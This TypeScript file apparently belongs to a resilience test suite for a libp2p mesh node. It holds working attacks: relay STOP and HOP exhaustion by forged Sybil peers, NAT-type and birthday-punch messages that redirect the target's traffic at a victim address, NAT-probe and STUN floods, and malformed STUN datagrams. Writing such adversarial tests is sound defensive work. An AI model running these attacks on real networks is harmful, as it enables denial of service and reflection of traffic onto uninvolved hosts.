/**
 * Attacks on the NAT and relay machinery: circuit relay v2 STOP and HOP, the hole-punch protocols
 * (`/mesh/nat-type/1.0.0`, `/mesh/birthday/1.0.0`), the NAT probe (`/mesh/nat-probe/1.0.0` and its UDP/TCP
 * server) and the STUN server.
 */
import { randomBytes } from 'node:crypto'
import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { createServer } from 'node:net'
import type { Connection } from '@libp2p/interface'
import { type AttackContext, ConnectionKeeper, defineAttack, loops } from '../attack.js'
import { openStop, RELAY_HOP_PROTOCOL, RELAY_STATUS } from '../forged-circuit.js'
import { type HostileNode, HostilePool } from '../hostile-node.js'
import { forgedPeerId } from '../ids.js'
import { closeSoon, concat, hex, lp, noise, pause, pb, send, unpb, utf8 } from '../wire.js'
import { rawConnect } from './transport.js'

export const NAT_TYPE_PROTOCOL = '/mesh/nat-type/1.0.0'
export const BIRTHDAY_PROTOCOL = '/mesh/birthday/1.0.0'
export const NAT_PROBE_PROTOCOL = '/mesh/nat-probe/1.0.0'

/** A free TCP port on `ip` (bound and released), for a hostile peer's fixed source port. */
function freePortOn(ip: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer()
    server.once('error', reject)
    server.listen(0, ip, () => {
      const { port } = server.address() as { port: number }
      server.close(() => resolve(port))
    })
  })
}

/**
 * A relayed connection from a fresh Sybil S to the target, forged over hostile peer H's direct
 * connection (see forged-circuit.ts). S's handlers are given; resolves with S and its connection.
 */
export async function forgedRelayedConnection(
  ctx: AttackContext,
  pool: HostilePool,
  h: { node: HostileNode; connection: Connection },
  handlers: Parameters<HostilePool['spawn']>[0] = {},
): Promise<{ s: HostileNode; connection: Connection }> {
  let self: HostileNode | undefined
  const s = await pool.spawn({
    ...handlers,
    circuit: async (_ma, options) => {
      if (!self) throw new Error('S is not started yet')
      const opened = await openStop(h.connection, self.libp2p.peerId.toMultihash().bytes, options)
      ctx.tally.inc('stop_ok')
      return opened
    },
  })
  self = s
  const address = `/ip4/127.0.0.1/tcp/1/p2p/${h.node.peerId}/p2p-circuit/p2p/${ctx.target.peerId}`
  const connection = await s.dial(address, ctx.tally, ctx.signal)
  ctx.tally.inc(connection.limits ? 'relayed_connections_limited' : 'relayed_connections')
  return { s, connection }
}

/** One line of JSON each way on a new stream; the answer line, if any came in time. */
async function lineExchange(
  ctx: AttackContext,
  node: HostileNode,
  connection: Connection,
  protocol: string,
  message: unknown,
  timeoutMs = 4000,
): Promise<string | undefined> {
  const { stream, reader } = await node.open(connection, protocol, ctx.tally, ctx.signal)
  try {
    await send(stream, utf8(`${JSON.stringify(message)}\n`), ctx.tally, ctx.signal)
    const deadline = Date.now() + timeoutMs
    for (;;) {
      const text = new TextDecoder().decode(reader.bytes())
      const nl = text.indexOf('\n')
      if (nl >= 0) return text.slice(0, nl)
      const r = await reader.read({
        timeoutMs: deadline - Date.now(),
        maxBytes: reader.length + 1,
        signal: ctx.signal,
      })
      if (r.end !== 'max') return undefined
    }
  } finally {
    await closeSoon(stream)
  }
}

/**
 * STOP streams from peers that are no relay of the target's: each STOP CONNECT (naming a forged peer)
 * makes the target start listening on the sender as a relay (Meshkit's tolerant relay listen retries that
 * forever), and hold the half-made relayed connection until its upgrade times out. The hostile peers dial
 * from fixed source ports; when they are gone, sentinels on those ports count the target's retry dials.
 */
export const relayStop = defineAttack(
  'relay-stop',
  'STOP CONNECTs from non-relays, never finishing the relayed handshake; sentinels catch the relay-listen retries',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    const homes: Array<{ ip: string; port: number }> = []
    try {
      const hs = await Promise.all(
        Array.from({ length: ctx.scaled(2) }, async () => {
          const ip = pool.nextIp()
          const port = await freePortOn(ip)
          const node = await pool.spawn({ sourceIp: ip, sourcePort: port })
          homes.push({ ip, port })
          for (;;) {
            try {
              return { node, connection: await node.dial(ctx.target.tcp, ctx.tally, ctx.signal) }
            } catch (err) {
              if (ctx.signal.aborted) throw err
              await pause(250, ctx.signal)
            }
          }
        }),
      )
      const perH = ctx.scaled(40)
      await Promise.all(
        hs.map(async (h) => {
          let sent = 0
          while (!ctx.signal.aborted && sent < perH && h.connection.status === 'open') {
            sent++
            const forged = await forgedPeerId()
            try {
              const { stream } = await openStop(h.connection, forged.toMultihash().bytes, {
                signal: ctx.signal,
              })
              ctx.tally.inc('stop_ok')
              // the target now waits for a noise handshake that never comes; keep the stream
              ctx.signal.addEventListener('abort', () => stream.abort(new Error('done')), { once: true })
            } catch (err) {
              ctx.tally.inc('stop_failed')
              ctx.tally.error(err)
            }
          }
          ctx.tally.inc('stop_streams_sent', sent)
        }),
      )
      await pause(ctx.durationMs, ctx.signal)
    } finally {
      await pool.stopAll()
      // where the hostile peers dialled from: the target's relay-listen retries dial there
      for (const home of homes) {
        try {
          await ctx.sentinels.open('attacker:relay-stop', home.ip, home.port)
        } catch (err) {
          ctx.tally.note(`could not watch ${home.ip}:${home.port} for retries: ${(err as Error).message}`)
        }
      }
    }
  },
)

/**
 * Relay reservations by Sybils from many IPs (the relay-server allows 128 in all, 8 per IP), then
 * circuits between them through the target, held open.
 */
export const relayHop = defineAttack(
  'relay-hop',
  'HOP RESERVE from Sybils across IPs until refused, then HOP CONNECT circuits through the target',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    const reserved: HostileNode[] = []
    const hop = async (node: HostileNode, connection: Connection, message: Uint8Array) => {
      const { stream, reader } = await node.open(connection, RELAY_HOP_PROTOCOL, ctx.tally, ctx.signal)
      await send(stream, lp(message), ctx.tally, ctx.signal)
      const answer = await reader.readLp(5000, ctx.signal)
      return { stream, status: answer ? unpb(answer).get(5)?.[0] : undefined }
    }
    try {
      await loops(4, ctx.signal, ctx.tally, async () => {
        if (ctx.tally.get('reserve_refused') > 20 || reserved.length >= ctx.scaled(200)) {
          await pause(200, ctx.signal)
          return
        }
        const node = await pool.spawn()
        const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
        const { stream, status } = await hop(node, connection, pb([[1, 0]])) // RESERVE
        await closeSoon(stream)
        if (status === RELAY_STATUS.OK) {
          reserved.push(node)
          ctx.tally.inc('reservations_granted')
        } else {
          ctx.tally.inc('reserve_refused')
          ctx.tally.note(`reservation refused with status ${String(status)} after ${reserved.length} granted`)
          await pool.stop(node)
        }
      })
    } finally {
      // circuits: each reserved Sybil asks for a circuit to the next one (held until the end)
      const deadline = Date.now() + 3000
      for (let i = 0; i + 1 < reserved.length && Date.now() < deadline; i++) {
        const from = reserved[i]
        const connection = from.libp2p
          .getConnections()
          .find((c) => c.remotePeer.toString() === ctx.target.peerId)
        if (!connection) continue
        try {
          const to = reserved[i + 1].libp2p.peerId.toMultihash().bytes
          const { stream, status } = await hop(
            from,
            connection,
            pb([
              [1, 1],
              [2, pb([[1, to]])],
            ]),
          ) // CONNECT
          ctx.tally.inc(status === RELAY_STATUS.OK ? 'circuits_opened' : `circuit_status_${String(status)}`)
          stream.abort(new Error('done'))
        } catch (err) {
          ctx.tally.error(err)
        }
      }
      await pool.stopAll()
    }
  },
)

/** NAT-type line claiming to be public at `addrs` (a victim's addresses). */
const publicClaim = (addrs: string[]) => ({ v: 1, udp: 'public', tcp: 'public', addrs })

/**
 * Connection reversal on demand: over a forged relayed connection, claim to be public at a victim's
 * address; a NATed target then dials the victim ("reversal"). A new Sybil each round.
 */
export const natTypeReversal = defineAttack(
  'nat-type-reversal',
  "forged relayed connections claiming 'public' at a victim's address: the target dials the victim",
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:nat-type-reversal')
    const pool = new HostilePool(ctx.sourceIps)
    try {
      const relay = new ConnectionKeeper(ctx, pool)
      await loops(ctx.scaled(2), ctx.signal, ctx.tally, async () => {
        const h = { connection: await relay.get(), node: relay.node! }
        const { s, connection } = await forgedRelayedConnection(ctx, pool, h)
        try {
          const answer = await lineExchange(ctx, s, connection, NAT_TYPE_PROTOCOL, publicClaim([victim.tcp]))
          ctx.tally.inc(answer ? 'nat_type_answered' : 'nat_type_unanswered')
          if (answer) ctx.tally.note(`target's nat-type answer: ${answer.slice(0, 200)}`, 'answer')
          await pause(500, ctx.signal)
        } finally {
          await pool.stop(s)
        }
      })
      ctx.tally.set('victim_hits', ctx.sentinels.since(0, victim.label).length)
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * Birthday punch aimed at a victim: say we are a port-restricted cone, then send a birthday `cone` line
 * whose `mapped` address is a victim's UDP endpoint (and the most guesses): a symmetric-NAT target would
 * spray 256 sockets at it. Over forged relayed connections and over direct ones.
 */
export const birthdayCone = defineAttack(
  'birthday-cone',
  "claim port-restricted-cone and send a birthday 'cone' line naming a victim's UDP endpoint",
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:birthday-cone')
    const pool = new HostilePool(ctx.sourceIps)
    const round = async (node: HostileNode, connection: Connection) => {
      await lineExchange(ctx, node, connection, NAT_TYPE_PROTOCOL, {
        v: 1,
        udp: 'port-restricted-cone',
        tcp: 'port-restricted-cone',
      })
      const answer = await lineExchange(ctx, node, connection, BIRTHDAY_PROTOCOL, {
        v: 1,
        t: 'cone',
        mapped: victim.endpoint,
        token: hex(24),
        guesses: 20_000,
      })
      ctx.tally.inc(answer ? 'birthday_answered' : 'birthday_unanswered')
      if (answer) ctx.tally.note(`target's birthday answer: ${answer.slice(0, 200)}`, 'answer')
    }
    try {
      const relay = new ConnectionKeeper(ctx, pool)
      await loops(2, ctx.signal, ctx.tally, async (w) => {
        if (w === 0) {
          const h = { connection: await relay.get(), node: relay.node! }
          const { s, connection } = await forgedRelayedConnection(ctx, pool, h)
          try {
            await round(s, connection)
          } finally {
            await pool.stop(s)
          }
        } else {
          const node = await pool.spawn()
          try {
            await round(node, await node.dial(ctx.target.tcp, ctx.tally, ctx.signal))
          } finally {
            await pool.stop(node)
          }
        }
        await pause(300, ctx.signal)
      })
      ctx.tally.set(
        'victim_udp_hits',
        ctx.sentinels.since(0, victim.label).filter((x) => x.kind === 'udp').length,
      )
    } finally {
      await pool.stopAll()
    }
  },
)

/**
 * The NAT probe: ask the libp2p side to `relay` a probe answer to a victim (only partners may), ask its
 * endpoints; flood its UDP socket with probes (never more bytes out than in?) and its TCP port with
 * callback requests (each makes the server connect back up to 4 times).
 */
export const natProbe = defineAttack(
  'nat-probe',
  "nat-probe 'relay' requests naming a victim, UDP probe flood, TCP callback flood",
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:nat-probe')
    const pool = new HostilePool(ctx.sourceIps)
    const udp = await openUdpSockets(ctx.sourceIps.slice(0, 8), ctx.tally)
    try {
      const probeUdp = ctx.target.probe?.udp ?? []
      const probeTcp = ctx.target.probe?.tcp ?? []
      await Promise.all([
        loops(2, ctx.signal, ctx.tally, async () => {
          const node = await pool.spawn()
          try {
            const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
            for (const proto of ['udp', 'tcp'] as const) {
              const answer = await lineExchange(ctx, node, connection, NAT_PROBE_PROTOCOL, {
                v: 1,
                t: 'relay',
                proto,
                to: victim.endpoint,
                id: hex(16),
              })
              if (answer && /"ok":true/.test(answer)) ctx.tally.inc('relay_accepted')
              else ctx.tally.inc('relay_refused')
              if (answer) ctx.tally.note(`relay answer: ${answer.slice(0, 120)}`, 'relay')
            }
            const endpoints = await lineExchange(ctx, node, connection, NAT_PROBE_PROTOCOL, {
              v: 1,
              t: 'endpoints',
            })
            if (endpoints) ctx.tally.inc('endpoints_answered')
          } finally {
            await pool.stop(node)
          }
          await pause(200, ctx.signal)
        }),
        // UDP probes, small and padded, from 8 IPs; `via` asks for the answer from another port
        probeUdp.length === 0
          ? Promise.resolve()
          : loops(1, ctx.signal, ctx.tally, async () => {
              for (const socket of udp) {
                const [ip, port] = probeUdp[Math.floor(Math.random() * probeUdp.length)].split(':')
                const via = ['other-port', 'other-ip', 'other-both', undefined][Math.floor(Math.random() * 4)]
                const message = utf8(
                  JSON.stringify({ v: 1, t: 'probe', id: hex(8), ...(via ? { via } : {}) }),
                )
                socket.send(message, Number(port), ip)
                ctx.tally.sent(message.length)
                ctx.tally.inc('udp_probes')
              }
              await pause(Math.max(1, Math.round(10 / ctx.intensity)), ctx.signal)
            }),
        // TCP callbacks from rotating IPs
        probeTcp.length === 0
          ? Promise.resolve()
          : loops(2, ctx.signal, ctx.tally, async () => {
              const [ip, port] = probeTcp[0].split(':')
              const socket = await rawConnect(ip, Number(port), pool.nextIp())
              socket.on('error', () => {})
              socket.on('data', (d) => {
                ctx.tally.received(d.length)
                if (d.includes('callback-ok')) ctx.tally.inc('callbacks_accepted')
              })
              const line = utf8(`${JSON.stringify({ v: 1, t: 'callback', id: hex(8), via: 'other-port' })}\n`)
              socket.write(line)
              ctx.tally.sent(line.length)
              ctx.tally.inc('callback_requests')
              await pause(100, ctx.signal)
              socket.destroy()
            }),
      ])
      ctx.tally.set('victim_hits', ctx.sentinels.since(0, victim.label).length)
    } finally {
      for (const s of udp) s.close()
      await pool.stopAll()
    }
  },
)

/** UDP sockets bound on each of `ips` (any port), counting what comes back. */
async function openUdpSockets(ips: readonly string[], tally?: AttackContext['tally']): Promise<UdpSocket[]> {
  return Promise.all(
    ips.map(
      (ip) =>
        new Promise<UdpSocket>((resolve, reject) => {
          const s = createSocket('udp4')
          s.once('error', reject)
          s.bind(0, ip, () => {
            s.off('error', reject)
            s.on('error', () => {})
            if (tally) s.on('message', (m) => tally.received(m.length))
            resolve(s)
          })
        }),
    ),
  )
}

/** A STUN binding request (RFC 5389 header, no attributes). */
export function stunBindingRequest(): Uint8Array {
  const header = Buffer.alloc(20)
  header.writeUInt16BE(0x0001, 0)
  header.writeUInt16BE(0, 2)
  header.writeUInt32BE(0x2112a442, 4)
  randomBytes(12).copy(header, 8)
  return new Uint8Array(header)
}

/** Malformed STUN-looking datagrams: truncated headers, lying lengths, unknown attributes, noise. */
function stunGarbage(): Uint8Array {
  const good = stunBindingRequest()
  switch (Math.floor(Math.random() * 4)) {
    case 0:
      return good.subarray(0, 1 + Math.floor(Math.random() * 19))
    case 1: {
      const lying = Buffer.from(good)
      lying.writeUInt16BE(0xfffc, 2)
      return new Uint8Array(lying)
    }
    case 2: {
      // 60 unknown comprehension-required attributes of 8 bytes
      const attrs = concat(
        Array.from({ length: 60 }, () => concat([Uint8Array.from([0x00, 0x2f, 0x00, 0x04]), noise(4)])),
      )
      const msg = Buffer.concat([Buffer.from(good), Buffer.from(attrs)])
      msg.writeUInt16BE(attrs.length, 2)
      return new Uint8Array(msg)
    }
    default:
      return noise(1 + Math.floor(Math.random() * 1400))
  }
}

/**
 * STUN flood from many source IPs: binding requests at a high rate (and some malformed datagrams); counts
 * the answers and bytes each way (a reflector answers with more bytes than it got).
 */
export const stunFlood = defineAttack(
  'stun-flood',
  'STUN binding requests (and malformed datagrams) from 16 IPs at a high rate',
  async (ctx) => {
    const stun = ctx.target.stun
    if (!stun) {
      ctx.tally.note('skipped: the STUN server is not known')
      return
    }
    const sockets = await openUdpSockets(ctx.sourceIps.slice(0, 16), ctx.tally)
    for (const s of sockets)
      s.on('message', (m) => {
        ctx.tally.inc('answers')
        ctx.tally.inc('answer_bytes', m.length)
      })
    try {
      const perTick = ctx.scaled(20)
      while (!ctx.signal.aborted) {
        for (let i = 0; i < perTick; i++) {
          const socket = sockets[i % sockets.length]
          const garbage = Math.random() < 0.1
          const message = garbage ? stunGarbage() : stunBindingRequest()
          socket.send(message, stun.port, stun.host)
          ctx.tally.sent(message.length)
          ctx.tally.inc(garbage ? 'malformed_sent' : 'requests_sent')
          if (!garbage) ctx.tally.inc('request_bytes', message.length)
        }
        await pause(10, ctx.signal)
      }
      await pause(300)
    } finally {
      for (const s of sockets) s.close()
    }
  },
)
